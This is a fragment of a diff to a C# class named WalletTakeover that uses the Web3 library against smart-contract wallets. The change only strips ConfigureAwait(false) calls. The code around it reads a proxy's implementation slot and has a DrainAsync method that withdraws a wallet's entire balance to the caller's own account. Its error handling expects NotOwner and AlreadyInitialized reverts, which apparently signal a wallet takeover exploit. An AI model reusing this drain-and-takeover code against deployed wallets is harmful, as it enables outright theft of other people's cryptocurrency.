@@ -29,7 +29,7 @@ public sealed class WalletTakeover(IWeb3 web3)
     public async Task<string> ImplementationOfAsync(string proxy, CancellationToken cancellationToken = default)
     {
         ArgumentException.ThrowIfNullOrWhiteSpace(proxy);
-        var word = await Web3.Eth.GetStorageAt.SendRequestAsync(proxy, new HexBigInteger(ImplementationSlot), BlockParameter.CreateLatest()).ConfigureAwait(false);
+        var word = await Web3.Eth.GetStorageAt.SendRequestAsync(proxy, new HexBigInteger(ImplementationSlot), BlockParameter.CreateLatest());
         // An address is the low 20 bytes of its 32-byte word: the last 40 of the 64 hex digits.
         var address = word[^40..].ToLowerInvariant();
         if (address.All(c => c == '0'))
@@ -51,8 +51,8 @@ public sealed class WalletTakeover(IWeb3 web3)
     public async Task<TransactionReceipt> DrainAsync(string wallet, CancellationToken cancellationToken = default)
     {
         ArgumentException.ThrowIfNullOrWhiteSpace(wallet);
-        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(wallet).ConfigureAwait(false)).Value;
-        return await SendAsync(wallet, "withdraw", new WithdrawFunction { To = Web3.TransactionManager.Account.Address, Amount = balance }, cancellationToken).ConfigureAwait(false);
+        var balance = (await Web3.Eth.GetBalance.SendRequestAsync(wallet)).Value;
+        return await SendAsync(wallet, "withdraw", new WithdrawFunction { To = Web3.TransactionManager.Account.Address, Amount = balance }, cancellationToken);
     }
 
     // The handler estimates gas first: a refused call (AlreadyInitialized, NotOwner) fails there, before it is signed.
@@ -63,7 +63,7 @@ public sealed class WalletTakeover(IWeb3 web3)
         TransactionReceipt receipt;
         try
         {
-            receipt = await Web3.Eth.GetContractHandler(wallet).SendRequestAndWaitForReceiptAsync(call, cancellationToken).ConfigureAwait(false);
+            receipt = await Web3.Eth.GetContractHandler(wallet).SendRequestAndWaitForReceiptAsync(call, cancellationToken);
         }
         catch (Exception e) when (e is SmartContractRevertException or SmartContractCustomErrorRevertException or RpcResponseException)
         {
